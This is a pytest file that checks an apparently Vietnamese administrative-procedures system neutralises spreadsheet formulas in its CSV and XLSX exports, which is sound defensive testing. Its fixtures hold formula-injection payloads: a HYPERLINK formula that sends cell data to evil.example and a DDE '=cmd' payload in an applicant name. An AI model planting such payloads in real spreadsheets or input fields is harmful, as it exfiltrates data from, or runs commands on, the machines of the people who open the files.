"""Downloads never carry a live formula: catalogue, report and queue files, in CSV and XLSX."""

import io
import json
import zipfile
from datetime import datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from procedures.catalogue_io import COLUMNS, export_catalogue, import_catalogue
from sla.core.calendar import LOCAL_TZ

API = "/api/v1"
WARD = "000.01.01.H26"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem hồ sơ")'
CODE = "9.999301"


def _catalogue_row(**changes) -> dict:
    row = dict.fromkeys(COLUMNS, "")
    row.update(
        code=CODE,
        name=HYPERLINK,
        name_en="@SUM(1,1)",
        field_code="cu_tru",
        level="commune",
        amount="7",
        unit="working_days",
        steps="Tiếp nhận=@receiving:7",
        effective_from="2025-01-01",
        source="-2+3",
    )
    row.update(changes)
    return row


@pytest.fixture
def formula_procedure(client):
    content = pd.DataFrame([_catalogue_row()]).to_csv(index=False).encode()
    response = client.post(f"{API}/catalogue/import", files={"file": ("c.csv", content, "text/csv")})
    assert response.status_code == 200, response.text
    assert client.get(f"{API}/procedures/{CODE}").json()["name"] == HYPERLINK
    return CODE


def _formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)]


def _texts(content: bytes) -> dict:
    sheet = load_workbook(io.BytesIO(content)).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_catalogue_export_neutralises_formulas_in_csv_and_xlsx(client, formula_procedure):
    csv = client.get(f"{API}/catalogue/export", params={"format": "csv"}).content
    row = pd.read_csv(io.BytesIO(csv), dtype=str, keep_default_na=False).set_index("code").loc[CODE]
    assert row["name"] == "'" + HYPERLINK and row["name_en"] == "'@SUM(1,1)" and row["source"] == "'-2+3"
    xlsx = client.get(f"{API}/catalogue/export", params={"format": "xlsx"}).content
    assert _formulas(xlsx) == []
    cell = _texts(xlsx)[HYPERLINK]
    assert cell.data_type == "s" and cell.quotePrefix
    as_json = client.get(f"{API}/catalogue/export", params={"format": "json"}).json()
    assert {r["code"]: r["name"] for r in as_json}[CODE] == HYPERLINK  # JSON is data, not a spreadsheet


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalogue_export_with_formulas_imports_back_unchanged(session, fmt):
    seed = {k: v for k, v in _catalogue_row(fee="'=quoted").items() if v != ""}
    import_catalogue(session, json.dumps([seed]).encode(), "json")  # JSON: taken as written
    before = json.loads(export_catalogue(session, "json"))
    import_catalogue(session, export_catalogue(session, fmt), fmt)
    after = json.loads(export_catalogue(session, "json"))
    assert after == before
    mine = next(r for r in after if r["code"] == CODE)
    assert (mine["name"], mine["fee"], mine["source"]) == (HYPERLINK, "'=quoted", "-2+3")


def test_report_and_queue_downloads_neutralise_formulas(client, formula_procedure):
    intake = {"procedure_code": CODE, "agency_code": WARD, "applicant": {"name": "=cmd|' /C calc'!A0"}}
    assert client.post(f"{API}/dossiers", json=intake).status_code == 201
    today = datetime.now(LOCAL_TZ).date()
    period = {"from": today.replace(day=1).isoformat(), "to": today.isoformat(), "group_by": "procedure"}
    downloads = [
        ("reports/period", period),
        ("queues/due-soon", {"agency": WARD, "within_working_days": 30}),
    ]
    for (path, params), raw in [(download, raw) for download in downloads for raw in (False, True)]:
        csv = client.get(f"{API}/{path}", params={**params, "format": "csv", "raw": raw})
        assert csv.status_code == 200, csv.text
        rows = pd.read_csv(io.BytesIO(csv.content), dtype=str, keep_default_na=False, encoding="utf-8-sig")
        name_column = "procedure_name" if raw else "Tên thủ tục"  # people's CSV: Vietnamese headers
        assert "'" + HYPERLINK in rows[name_column].tolist(), path
        assert HYPERLINK not in rows.to_numpy().ravel().tolist()
        xlsx = client.get(f"{API}/{path}", params={**params, "format": "xlsx", "raw": raw})
        assert xlsx.status_code == 200, xlsx.text
        assert _formulas(xlsx.content) == [], path
        cell = _texts(xlsx.content)[HYPERLINK]
        assert cell.data_type == "s" and cell.quotePrefix, path
    for fmt in ("csv", "xlsx"):  # the dashboard's downloads use the same writers
        page = client.get("/dashboard/download/due-soon", params={"agency": WARD, "format": fmt, "within": 30})
        assert page.status_code == 200, page.text
        if fmt == "csv":
            assert ("'" + HYPERLINK).replace('"', '""') in page.content.decode("utf-8-sig")
        else:
            assert _formulas(page.content) == [] and _texts(page.content)[HYPERLINK].quotePrefix
